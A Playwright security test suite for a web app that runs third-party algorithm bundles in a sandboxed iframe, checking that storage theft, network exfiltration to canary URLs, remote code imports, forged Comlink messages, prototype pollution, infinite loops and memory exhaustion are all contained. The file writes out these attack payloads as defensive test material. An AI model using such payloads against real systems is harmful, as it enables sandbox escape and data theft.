// Third-party bundles run in an opaque-origin sandboxed iframe (docs/security.md). Each attack test
// installs its own malicious bundle through window.algobox (so it is third-party), runs it, and
// checks that the run ends FAILED (or the install is refused) with a clear message, that every
// dataset is unchanged (SHA-256 of all fields before and after), that the app stays responsive
// (an evaluate within a second and a UI click), and that NOTHING reached a canary: neither a route
// on the app's own origin (/canary/**) nor a separate HTTP server this file starts on another port.
// The positive test runs a third-party copy of salient_segmentation (U²-Net-p) in the sandbox with
// threaded WASM and gets the built-in's mask.
import { expect, test, type Page } from '@playwright/test';
import { datasetHashes, openApp } from './util';
import { useCanaries } from './canary';
import { expectClean, expectNothingSent, expectResponsive, expectResponsiveOverCdp, openLowMemoryApp, PROBE } from './sandboxChecks';
import { CODE_PROBES, expectProbes, NETWORK_PROBES, probeCalls, STORAGE_PROBES } from './sandboxProbes';

const manifest = (name: string, type = 'Image2Image', devices = '["cpu"]', dflt = 'cpu') => `[project]
name = "${name}"
version = "1.0.0"

[tool.compox]
algorithm_type = "${type}"
tags = ["attack"]
description = "malicious test bundle"
supported_devices = ${devices}
default_device = "${dflt}"
`;

/** A bundle whose inference runs `body` (with `host` = the raw HostApi, `C` = the canary URLs). */
function attack(name: string, body: string, extra: Record<string, string> = {}, postprocess = 'return d;'): Record<string, string> {
  return {
    'pyproject.toml': manifest(name),
    'Runner.js': `import { Image2ImageRunner } from "algobox";
const C = ${JSON.stringify(canary.urls())};
export class Runner extends Image2ImageRunner {
  async preprocess(input) { return input.inputDatasetIds; }
  async inference(ids, args) { const host = this.host; ${body} }
  async postprocess(d) { ${postprocess} }
}`,
    ...extra,
  };
}

// ── canaries ──

const canary = useCanaries();

// ── helpers ──

interface RunResult {
  installError: string | null;
  status?: string;
  error?: string | null;
  log?: { level: string; message: string }[];
  device?: string | null;
}

/** Install the files as a (third-party) bundle and run it on one small image. */
async function installAndRun(
  page: Page,
  files: Record<string, string>,
  opts: { timeoutMs?: number; maxPostBytes?: number; device?: string } = {},
): Promise<RunResult> {
  return page.evaluate(
    async ([f, o]) => {
      const api = window.algobox;
      let alg;
      try {
        alg = await api.algorithms.install(f);
      } catch (e) {
        return { installError: (e as Error).message };
      }
      const img = await api.datasets.put({ image: { dtype: 'uint8', shape: [4, 4], data: new Uint8Array(16).fill(7) } }, { name: 'attack input' });
      const rec = await api.executions.wait(await api.execute({ algorithmId: alg.id, inputDatasetIds: [img], ...o }));
      await api.datasets.delete(img);
      return {
        installError: null,
        status: rec.status,
        error: rec.error?.message ?? null,
        log: rec.log.map((l) => ({ level: l.level, message: l.message })),
        device: rec.device,
      };
    },
    [files, opts] as const,
  );
}

/** The summary a bundle reports by throwing Error("RESULT " + JSON): parsed. */
function results(r: RunResult): Record<string, string> {
  expect(r.installError).toBeNull();
  expect(r.status).toBe('FAILED');
  const m = /^RESULT (.*)$/s.exec(r.error ?? '');
  expect(m, r.error ?? '').not.toBeNull();
  return JSON.parse(m![1]!) as Record<string, string>;
}

// ── the positive test ──

test('a third-party copy of salient_segmentation runs in the sandbox: threaded WASM, the built-in mask, gpu → cpu with the reason', async ({ page }) => {
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const problems = await openApp(page);
  const before = await datasetHashes(page);
  const r = await page.evaluate(async () => {
    const api = window.algobox;
    const base = 'bundles/salient_segmentation/';
    const files: Record<string, Uint8Array | string> = {};
    for (const p of ['pyproject.toml', 'Runner.js', 'salient/rgb.js', 'files/u2netp.onnx', 'README.md']) {
      files[p] = new Uint8Array(await (await fetch(base + p)).arrayBuffer());
    }
    // Another name (same name+version would replace the built-in); the self-test files are left out.
    files['pyproject.toml'] = new TextDecoder()
      .decode(files['pyproject.toml'] as Uint8Array)
      .replace('name = "salient_segmentation"', 'name = "salient_third_party"')
      .replace(/files = \[[^\]]*\]/, 'files = ["README.md", "files/u2netp.onnx"]')
      .replace(/\[\[tool\.algobox\.tests\]\][\s\S]*$/, '');
    const third = await api.algorithms.install(files);
    const builtin = await api.algorithms.get('salient_segmentation');
    const n = 96;
    const data = new Uint8Array(3 * n * n);
    for (let y = 0; y < n; y++)
      for (let x = 0; x < n; x++) {
        const inDisk = (x - 50) ** 2 + (y - 44) ** 2 < 600;
        data[y * n + x] = inDisk ? 230 : 30 + ((x * 7 + y * 3) % 40);
        data[n * n + y * n + x] = inDisk ? 60 : 40;
        data[2 * n * n + y * n + x] = inDisk ? 40 : 90;
      }
    const img = await api.datasets.put({ image: { dtype: 'uint8', shape: [3, n, n], data } }, { schema: 'Image', name: 'salient input' });
    const run = async (id: string, device: string) => api.executions.wait(await api.execute({ algorithmId: id, inputDatasetIds: [img], device }));
    const t = await run(third.id, 'gpu');
    const frames = [...document.querySelectorAll('iframe[data-algobox-sandbox]')].map((f) => ({
      sandbox: f.getAttribute('sandbox'),
      allow: f.getAttribute('allow'),
      srcdoc: (f as HTMLIFrameElement).srcdoc,
    }));
    const b = await run(builtin.id, 'cpu');
    const mask = async (rec: { outputDatasetIds: string[] }) =>
      Array.from(((await api.datasets.get(rec.outputDatasetIds[0]!)).fields.mask as { data: Uint8Array }).data);
    const m3 = await mask(t);
    const m1 = await mask(b);
    const out = {
      origin: third.origin.kind,
      t: { status: t.status, device: t.device, log: t.log },
      b: { status: b.status, log: b.log },
      frames,
      cores: navigator.hardwareConcurrency,
      same: m3.length === m1.length && m3.every((v, i) => v === m1[i]),
      fg: m3.filter((v) => v > 0).length,
      size: m3.length,
    };
    await api.datasets.delete([img, ...t.outputDatasetIds, ...b.outputDatasetIds]);
    await api.algorithms.remove(third.id);
    return out;
  });
  expect(r.origin).toBe('files');
  expect(r.t.status).toBe('COMPLETED');
  expect(r.b.status).toBe('COMPLETED');
  const messages = r.t.log.map((l) => l.message);
  expect(messages).toContain('Third-party bundle: it runs in an opaque-origin sandbox (no storage, no network; data only through the engine).');
  // The GPU decision: WebGPU does not exist in the sandbox, so gpu falls back to cpu with the reason.
  expect(r.t.device).toBe('cpu');
  expect(r.t.log).toContainEqual({
    time: expect.any(String),
    level: 'WARNING',
    message: expect.stringMatching(
      /^Computing device override is set to GPU, however WebGPU is not available \(third-party bundles run in the opaque-origin sandbox, whose workers are not secure contexts and have no WebGPU; see docs\/security\.md\)\. Running on CPU\.$/,
    ),
  });
  // Multi-threaded WASM inside the sandbox: one thread per core.
  const threads = `WASM (SIMD, ${r.cores} thread${r.cores > 1 ? 's' : ''})`;
  expect(messages.some((m) => m.startsWith('Loaded model files/u2netp.onnx') && m.includes(threads))).toBe(true);
  expect(r.b.log.some((l) => l.message.includes(threads))).toBe(true);
  expect(r.same).toBe(true);
  expect(r.fg).toBeGreaterThan(r.size * 0.05);
  expect(r.fg).toBeLessThan(r.size * 0.6);
  // The frame: opaque origin (no allow-same-origin), cross-origin isolated, hash-pinned CSP with no network.
  expect(r.frames).toHaveLength(1);
  expect(r.frames[0]!.sandbox).toBe('allow-scripts');
  expect(r.frames[0]!.allow).toBe('cross-origin-isolated');
  expect(r.frames[0]!.srcdoc).toMatch(/content="default-src 'none'; script-src 'sha256-[A-Za-z0-9+/]{43}=' blob: 'wasm-unsafe-eval'; worker-src blob:"/);
  // ORT came from the app's own build (and the sandbox fetched nothing itself).
  expect(requests.filter((u) => /ort\.wasm\.min-[\w-]+\.mjs$/.test(u))).toHaveLength(1);
  expect(requests.every((u) => u.startsWith(canary.appOrigin) || u.startsWith('blob:') || u.startsWith('data:') || u.startsWith('about:'))).toBe(true);
  expect(await datasetHashes(page)).toEqual(before);
  await expectNothingSent(canary);
  expect(problems).toEqual([]);
});

// ── attacks ──

test('attack 1: IndexedDB, Cache Storage and other storage are out of reach', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  await page.evaluate(() => {
    const w = window as unknown as { heard: unknown[] };
    w.heard = [];
    new BroadcastChannel('algobox').onmessage = (e) => w.heard.push(e.data);
  });
  const r = await installAndRun(
    page,
    attack(
      'storage_thief',
      `${PROBE}
      ${probeCalls(STORAGE_PROBES)}
      throw new Error("RESULT " + JSON.stringify(out));`,
    ),
  );
  expectProbes(results(r), STORAGE_PROBES);
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([]);
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

test('attack 2: fetch, XHR, WebSocket, EventSource and workers cannot reach a local server or the app origin', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  const r = await installAndRun(
    page,
    attack(
      'exfiltrator',
      `${PROBE}
      const [{ image }] = await this.fetchData(ids, "image");
      const stolen = String(Array.from(image.data));
      ${probeCalls(NETWORK_PROBES)}
      throw new Error("RESULT " + JSON.stringify(out));`,
    ),
  );
  expectProbes(results(r), NETWORK_PROBES);
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

test('attack 3: code from the network: import() and static imports are refused at install, importScripts is blocked', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  const dynamic = await installAndRun(
    page,
    attack('net_import', `await import("${'http://127.0.0.1:PORT/canary/mod.js'.replace('PORT', String(canary.port))}"); return [];`),
  );
  expect(dynamic.installError).toMatch(/Runner\.js imports 'http:\/\/127\.0\.0\.1:\d+\/canary\/mod\.js'\. Bundle code may not load code from the network/);
  const staticImport = await installAndRun(page, {
    'pyproject.toml': manifest('net_static'),
    'Runner.js': `import { x } from "${canary.appOrigin}/canary/mod.js";\nimport { Image2ImageRunner } from "algobox";\nexport class Runner extends Image2ImageRunner { async inference(d) { return d; } }`,
  });
  expect(staticImport.installError).toMatch(/Bundle code may not load code from the network/);
  const runtime = await installAndRun(
    page,
    attack(
      'net_scripts',
      `${PROBE}
      ${probeCalls(CODE_PROBES)}
      throw new Error("RESULT " + JSON.stringify(out));`,
    ),
  );
  expectProbes(results(runtime), CODE_PROBES);
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

test('attack 4: forged messages: to the page, on the engine ports, and from other frames change nothing', async ({ page }) => {
  const problems = await openApp(page);
  const before = await datasetHashes(page);
  const runP = installAndRun(
    page,
    attack(
      'forger',
      `${PROBE}
      await probe("parent", () => typeof parent + "/" + typeof top + "/" + typeof window);
      // Engine-looking messages to whoever holds this worker (the frame's bootstrap, which ignores them).
      self.postMessage({ type: "algobox-sandbox-error", message: "forged crash" });
      self.postMessage({ type: "algobox-sandbox-pong", seq: 1 });
      self.postMessage({ id: "x", type: "RAW", value: { outputDatasetIds: ["forged"], loadMs: 0 } });
      // Capture the port the engine serves the HostApi on, then speak raw Comlink to it.
      const sent = new Set();
      const orig = MessagePort.prototype.postMessage;
      MessagePort.prototype.postMessage = function (m, t) { sent.add(this); return orig.call(this, m, t); };
      await host.log("INFO", "capturing");
      const [hostPort] = [...sent];
      const replies = {};
      hostPort.addEventListener("message", (e) => { if (String(e.data.id).startsWith("evil")) replies[e.data.id] = e.data.value && e.data.value.value ? e.data.value.value.message : e.data.value; });
      const forge = [
        { id: "evil-set", type: "SET", path: ["__proto__", "polluted"], value: { type: "RAW", value: "yes" } },
        { id: "evil-set2", type: "SET", path: ["log", "__proto__", "__proto__", "polluted"], value: { type: "RAW", value: "yes" } },
        { id: "evil-get", type: "GET", path: ["fetchData", "constructor"] },
        { id: "evil-fn", type: "APPLY", path: ["fetchData", "constructor"], argumentList: [{ type: "RAW", value: "document.title = 'owned'" }] },
        { id: "evil-getter", type: "APPLY", path: ["log", "__proto__", "__proto__", "__defineGetter__"], argumentList: [{ type: "RAW", value: "polluted" }] },
        { id: "evil-endpoint", type: "ENDPOINT" },
        { id: "evil-construct", type: "CONSTRUCT", path: ["log"], argumentList: [] },
        { id: "evil-unknown", type: "APPLY", path: ["deleteAllDatasets"], argumentList: [] },
      ];
      for (const m of forge) orig.call(hostPort, m);
      await new Promise((r) => setTimeout(r, 300));
      out.replies = JSON.stringify(replies);
      await host.log("INFO", "RESULT " + JSON.stringify(out));
      // Wait while the page sends its own forged frame messages, then forge the reply to execute: a proxy.
      await new Promise((r) => setTimeout(r, 1500));
      MessagePort.prototype.postMessage = function (m, t) {
        if (m && m.type === "RAW" && m.value && "outputDatasetIds" in m.value) {
          const ch = new MessageChannel();
          orig.call(this, { id: m.id, type: "HANDLER", name: "proxy", value: ch.port1 }, [ch.port1]);
        }
        return orig.call(this, m, t);
      };
      return [];`,
    ),
  );
  // Meanwhile, forged sandbox messages from the page itself and from a sandboxed frame that is not the runner's.
  await page.waitForFunction(() => document.querySelector('iframe[data-algobox-sandbox]') !== null);
  await page.evaluate(() => {
    for (const type of ['algobox-sandbox-error', 'algobox-sandbox-ready', 'algobox-sandbox-spawned'])
      window.postMessage({ type, message: 'forged by the page' }, '*');
    const f = document.createElement('iframe');
    f.setAttribute('sandbox', 'allow-scripts');
    f.srcdoc = `<script>for (let i = 0; i < 20; i++) { parent.postMessage({ type: "algobox-sandbox-error", message: "forged by another frame" }, "*"); for (let k = 0; k < parent.frames.length; k++) parent.frames[k].postMessage({ type: "algobox-sandbox-spawn", source: "self.close()" }, "*"); }</script>`;
    document.body.appendChild(f);
  });
  const r = await runP;
  expect(r.installError).toBeNull();
  expect(r.status).toBe('FAILED');
  expect(r.error).toBe('The runner sent a reply the engine does not accept (only plain values and plain errors are).');
  const line = r.log!.find((l) => l.message.startsWith('RESULT '))!.message;
  const o = JSON.parse(line.slice(7)) as Record<string, string>;
  expect(o.parent).toBe('ok: undefined/undefined/undefined');
  const replies = JSON.parse(o.replies!) as Record<string, string>;
  expect(Object.keys(replies).sort()).toEqual([
    'evil-construct',
    'evil-endpoint',
    'evil-fn',
    'evil-get',
    'evil-getter',
    'evil-set',
    'evil-set2',
    'evil-unknown',
  ]);
  for (const v of Object.values(replies)) expect(v).toMatch(/^The engine refused a message from the runner: /);
  expect(await page.title()).not.toBe('owned');
  await expectResponsive(page);
  await expectClean(page, before, canary);
  // The CSP violations of the other frame's own attempts are its console's business; the app logged nothing.
  expect(problems.filter((p) => !/Content Security Policy|sandboxed/.test(p))).toEqual([]);
});

test('attack 5: prototype pollution through posted items, ids, log messages, session keys and errors', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  const r = await installAndRun(
    page,
    attack(
      'polluter',
      `${PROBE}
      const P = (s) => JSON.parse(s);
      // A fresh array per call: posted buffers are transferred (detached in the worker), refused or not.
      const F = () => ({ kind: "array", array: { dtype: "uint8", shape: [1], data: new Uint8Array([1]) } });
      await probe("item __proto__", () => host.postData([P('{"__proto__": {"polluted": "yes"}, "mask": {"kind": "array"}}')], null));
      await probe("item constructor.prototype", () => host.postData([{ constructor: { prototype: { polluted: "yes" } } }], null));
      await probe("field __proto__", () => host.postData([{ mask: Object.assign(P('{"__proto__": {"polluted": "yes"}}'), F()) }], null));
      await probe("array __proto__", () => host.postData([{ mask: { kind: "array", array: Object.assign(P('{"__proto__": {"polluted": "yes"}}'), F().array) } }], null));
      await probe("schema constructor", () => host.postData([{ mask: F() }], "constructor"));
      await probe("session __proto__", () => host.sessionSave("__proto__", { polluted: "yes" }));
      await probe("session constructor", () => host.sessionSave("constructor", { prototype: { polluted: "yes" } }));
      await probe("log object", () => host.log("INFO", P('{"__proto__": {"polluted": "yes"}, "toString": "x"}')));
      await probe("log level", () => host.log(P('{"__proto__": {"polluted": "yes"}}'), "x"));
      await probe("fetchData ids", () => host.fetchData(P('{"__proto__": {"polluted": "yes"}, "length": 1, "0": "x"}'), null));
      await probe("fetchAsset __proto__", () => host.fetchAsset("__proto__"));
      await host.log("INFO", "RESULT " + JSON.stringify(out));
      return P('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}');`,
      {},
      'return d;',
    ),
  );
  expect(r.status).toBe('FAILED');
  expect(r.error).toBe('postprocess must return the list of dataset ids that postData gave; it returned object.');
  const o = JSON.parse(r.log!.find((l) => l.message.startsWith('RESULT '))!.message.slice(7)) as Record<string, string>;
  expect(o['item __proto__']).toBe('Error: postData: item 0 has an invalid field name "__proto__".');
  expect(o['item constructor.prototype']).toBe('Error: postData: item 0 has an invalid field name "constructor".');
  // An own "__proto__" key of a field or array is not carried over: the value is rebuilt from checked parts.
  expect(o['field __proto__']).toMatch(/^ok: /);
  expect(o['array __proto__']).toMatch(/^ok: /);
  expect(o['schema constructor']).toBe('Error: postData: unknown schema "constructor".');
  expect(o['session __proto__']).toMatch(/^Error: sessionSave: the key must be a non-empty string .* other than __proto__, constructor and prototype/);
  expect(o['session constructor']).toMatch(/^Error: sessionSave: the key must be/);
  expect(o['log object']).toBe('ok: undefined');
  expect(o['log level']).toBe('Error: Invalid logging level provided: "object".');
  expect(o['fetchData ids']).toBe('Error: fetchData: ids must be a list of strings, got object.');
  expect(o['fetchAsset __proto__']).toMatch(/^Error: fetchAsset: the bundle has no asset '__proto__'/);
  expect(r.log!.some((l) => l.message === 'object')).toBe(true);
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

test('attack 6: an infinite loop is stopped by the time limit; the app stays responsive meanwhile', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  const runP = installAndRun(page, attack('spinner', 'await this.setProgress(0.5); for (;;) {}'), { timeoutMs: 4000 });
  await page.waitForFunction(() => document.querySelector('iframe[data-algobox-sandbox]') !== null);
  await expectResponsive(page);
  const r = await runP;
  expect(r.status).toBe('FAILED');
  expect(r.error).toBe('Execution exceeded its time limit of 4000 ms and was stopped.');
  // The frame (and with it the spinning worker) is gone.
  expect(await page.evaluate(() => document.querySelectorAll('iframe[data-algobox-sandbox]').length)).toBe(0);
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

test('attack 8: oversized and wrongly typed outputs fail with the field named', async ({ page }) => {
  await openApp(page);
  const before = await datasetHashes(page);
  const post = (items: string, schema = 'null') => `await host.postData(${items}, ${schema}); return [];`;
  const huge = await installAndRun(
    page,
    attack('huge', post('[{ mask: { kind: "array", array: { dtype: "uint8", shape: [4096, 4096], data: new Uint8Array(4096 * 4096) } } }]')),
    { maxPostBytes: 1024 * 1024 },
  );
  expect(huge.status).toBe('FAILED');
  expect(huge.error).toBe(
    "postData: item 0 field 'mask' (16777216 bytes) would bring this execution's posted bytes to 16777216, more than its limit of 1048576.",
  );
  const dtype = await installAndRun(
    page,
    attack('wrong_dtype', post('[{ mask: { kind: "array", array: { dtype: "uint8", shape: [2, 2], data: new Float64Array(4) } } }]', '"Segmentation"')),
  );
  expect(dtype.error).toBe("postData: item 0 field 'mask': data for dtype uint8 must be a Uint8Array, got Float64Array(4).");
  const shape = await installAndRun(
    page,
    attack('wrong_shape', post('[{ mask: { kind: "array", array: { dtype: "uint8", shape: [1000, 1000], data: new Uint8Array(4) } } }]')),
  );
  expect(shape.error).toBe("postData: item 0 field 'mask': data has 4 elements but shape [1000, 1000] needs 1000000.");
  const schema = await installAndRun(
    page,
    attack(
      'wrong_schema',
      post('[{ transform_matrix: { kind: "array", array: { dtype: "float64", shape: [2, 2], data: new Float64Array(4) } } }]', '"Alignment"'),
    ),
  );
  expect(schema.status).toBe('FAILED');
  expect(schema.error).toMatch(/transform_matrix/);
  const ids = await installAndRun(page, attack('wrong_ids', 'return [1, { id: "x" }];'));
  expect(ids.error).toBe('postprocess must return the list of dataset ids that postData gave; it returned a list containing number, object.');
  const unknownId = await installAndRun(page, attack('unknown_ids', 'return ["not-a-dataset"];'));
  expect(unknownId.error).toBe('postprocess returned "not-a-dataset", which is not a dataset id; return the ids that postData gave.');
  const log = await installAndRun(page, attack('huge_log', 'await host.log("INFO", "x".repeat(2_000_000)); return [];'));
  expect(log.error).toBe('log: a message of 2000000 characters; at most 1000000 are accepted.');
  await expectResponsive(page);
  await expectClean(page, before, canary);
});

// ── out of memory ──
// V8's per-isolate heap limit is the browser's own per-renderer memory limit; this test runs in its
// own browser with that limit lowered to 512 MB, so that the attack cannot take the test machine
// down. When the sandbox frame's process dies, Playwright marks the whole page as crashed (it does
// so for any out-of-process frame), so the test talks to the page over its own CDP session from then on.

test('attack 7: allocating until the sandbox runs out of memory ends FAILED quickly; the app stays responsive', async ({ baseURL }) => {
  const app = await openLowMemoryApp(baseURL, canary);
  const { evaluate } = app;
  try {
    const files = attack(
      'hog',
      `const keep = []; for (let i = 0; ; i++) { keep.push(new Array(8 * 1024 * 1024).fill(i + 0.5)); if (i % 2 === 0) await host.log("INFO", "allocated " + (i + 1) * 64 + " MiB"); }`,
    );
    const t0 = Date.now();
    const r = await evaluate<RunResult>(`(async () => {
      const api = window.algobox;
      const alg = await api.algorithms.install(${JSON.stringify(files)});
      const img = await api.datasets.put({ image: { dtype: 'uint8', shape: [4, 4], data: new Uint8Array(16) } });
      const rec = await api.executions.wait(await api.execute({ algorithmId: alg.id, inputDatasetIds: [img] }));
      await api.datasets.delete(img);
      return { installError: null, status: rec.status, error: rec.error && rec.error.message, log: rec.log.map((l) => ({ level: l.level, message: l.message })) };
    })()`);
    const seconds = (Date.now() - t0) / 1000;
    expect(r.status).toBe('FAILED');
    expect(r.error).toMatch(/^The sandboxed runner stopped \(out of memory or crashed\): /);
    expect(r.log!.some((l) => /^allocated \d+ MiB$/.test(l.message))).toBe(true);
    expect(seconds).toBeLessThan(60);
    await expectResponsiveOverCdp(app);
    expect(await evaluate<number>('document.querySelectorAll("iframe[data-algobox-sandbox]").length')).toBe(0);
    await expectNothingSent(canary);
  } finally {
    await app.browser.close();
  }
});
